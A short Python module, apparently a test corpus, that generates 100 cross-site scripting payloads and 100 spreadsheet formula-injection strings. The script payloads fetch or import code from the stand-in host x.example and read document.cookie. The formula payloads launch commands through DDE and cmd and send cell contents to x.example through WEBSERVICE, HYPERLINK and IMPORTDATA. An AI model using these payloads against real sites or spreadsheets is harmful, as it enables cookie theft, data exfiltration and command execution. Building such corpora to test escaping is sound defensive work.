"""Text that would run where it is read as code: a hundred each for pages and for spreadsheets."""

from __future__ import annotations

_SCRIPTS = ["alert(1)", "fetch('//x.example')", "document.cookie", "import('//x.example')", "eval(name)"]
_SHAPES = [
    "<script>{0}</script>", "<img src=x onerror={0}>", '"><svg onload={0}>', "<iframe srcdoc='<script>{0}</script>'>",
    "<a href='javascript:{0}'>x</a>", "<details open ontoggle={0}>", "<math><mtext></style><img src onerror={0}>",
    "<body onpageshow={0}>", "';{0}//", "<style>@import '//x.example/{0}'</style>", "</title><script>{0}</script>",
    "<input autofocus onfocus={0}>", "<form action=//x.example><button>{0}</button></form>", "{{{{ {0} }}}}",
    "<template><script>{0}</script></template>", "<object data='data:text/html,<script>{0}</script>'>",
    "<meta http-equiv=refresh content='0;url=//x.example/{0}'>", "![x](//x.example/{0})",
    "<link rel=stylesheet href=//x.example/{0}>", "<<script>{0}//<</script>",
]  # fmt: skip
XSS = tuple(shape.format(script) for shape in _SHAPES for script in _SCRIPTS)

_CALLS = [
    "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example?\"&A1,\"open\")", "WEBSERVICE(\"http://x.example/\"&A1)",
    "IMPORTXML(\"http://x.example\",\"//a\")", "1+1", "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\")", "A1*2", "2-1",
    "IMPORTDATA(\"http://x.example\")",
]  # fmt: skip
_STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b"]
FORMULAS = tuple(start + call for start in _STARTS for call in _CALLS)
assert len(XSS) == len(FORMULAS) == 100
